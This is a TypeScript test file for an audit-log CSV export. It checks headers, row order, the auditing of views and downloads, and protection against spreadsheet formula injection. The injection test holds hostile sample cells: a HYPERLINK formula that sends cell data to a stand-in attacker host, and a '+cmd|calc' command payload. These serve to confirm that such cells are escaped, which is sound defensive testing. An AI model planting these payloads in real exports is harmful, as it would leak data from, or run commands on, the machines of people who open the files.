import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { and, eq } from 'drizzle-orm';
import { auditLog } from '../db/schema/audit.ts';
import { paths } from '../paths.ts';
import { signIn } from '../test/harness.ts';
import { auditHarness, download, entryRows, writeEntries, writeNumbered } from './test-fixtures.ts';

const h = await auditHarness();

describe('CSV download', () => {
  test('headers, the zone in the header row, every one of 1200 entries in order, in keyset batches', async () => {
    const { user: admin, browser } = await signIn(h);
    await writeNumbered(h, admin, 'test.csv', 1200, 7);
    await browser.get(paths.audit.list('test', { event: 'test.csv' }));
    const href = browser.page.link('Download these entries as CSV');
    assert.equal(href, '/test/audit/download.csv?event=test.csv');
    const { response, bom, rows } = await download(browser, href);
    assert.equal(response.status, 200);
    assert.equal(response.headers.get('Content-Type'), 'text/csv; charset=utf-8');
    assert.equal(response.headers.get('Content-Disposition'), `attachment; filename="audit-${admin.pspid}-20260401.csv"`);
    assert.equal(response.headers.get('Cache-Control'), 'no-store');
    assert.ok(bom, 'a byte order mark for spreadsheets');
    assert.deepEqual(rows[0], [
      'Time (Europe/Brussels)',
      'USERID',
      'Event',
      'Event type',
      'Result',
      'Origin IP',
      'Object',
      'Details',
    ]);
    assert.equal(rows.length, 1201);
    assert.deepEqual(rows[1], ['2026-03-10 09:02:51 +01:00', admin.userid, 'test.csv', 'test.csv', 'Success', '', '', 'n: 1199']);
    const ns = rows.slice(1).map((row) => Number(row[7]?.replace('n: ', '')));
    assert.deepEqual(
      ns,
      Array.from({ length: 1200 }, (_, i) => 1199 - i),
    );
  });

  test('cells that a spreadsheet would run as formulas come out guarded', async () => {
    const { user: admin, browser } = await signIn(h);
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    await writeEntries(h, admin, [
      {
        at: new Date('2026-03-05T10:00:00Z'),
        eventType: 'login',
        actor: formula,
        ip: '@SUM(1+1)',
        object: '+cmd|calc',
        details: { [formula]: 'x' },
      },
      { at: new Date('2026-03-05T11:00:00Z'), eventType: '-2+3', details: {} },
    ]);
    const { rows } = await download(browser, paths.audit.csv('test', { from: '2026-03-05', to: '2026-03-05' }));
    assert.equal(rows.length, 3);
    const [, second, first] = rows;
    assert.equal(first?.[1], `'${formula}`);
    assert.equal(first?.[5], "'@SUM(1+1)");
    assert.equal(first?.[6], "'+cmd|calc");
    assert.equal(first?.[7], `'${formula}: x`);
    assert.equal(second?.[2], "'-2+3");
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
  });

  test('reading is audited: each page view and each download, with the filters, the actor and the account', async () => {
    const { user: admin, browser } = await signIn(h);
    await browser.get(paths.audit.list('test', { from: '2026-03-01', to: '2026-03-31', event: 'login', result: 'failure' }));
    await download(browser, paths.audit.csv('test', { user: admin.id }));
    const entries = await h.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.accountId, admin.accountId), eq(auditLog.actor, admin.userid)));
    const view = entries.find((entry) => entry.eventType === 'audit.view');
    const downloadEntry = entries.find((entry) => entry.eventType === 'audit.download');
    assert.ok(view && downloadEntry);
    for (const entry of [view, downloadEntry]) {
      assert.equal(entry.userId, admin.id);
      assert.equal(entry.object, `account:${admin.accountId}`);
      assert.equal(entry.success, true);
    }
    assert.deepEqual(view.details, {
      from: '2026-03-01',
      to: '2026-03-31',
      timeZone: 'Europe/Brussels',
      event: 'login',
      result: 'failure',
    });
    assert.deepEqual(downloadEntry.details, { user: admin.userid });
    await browser.get(paths.audit.list('test', { event: 'audit.download' }));
    assert.deepEqual(
      entryRows(browser.page).map((cells) => [cells[2], cells[5], cells[6]]),
      [['Audit log downloaded', `Account ${admin.pspid}`, `user: ${admin.userid}`]],
    );
  });
});
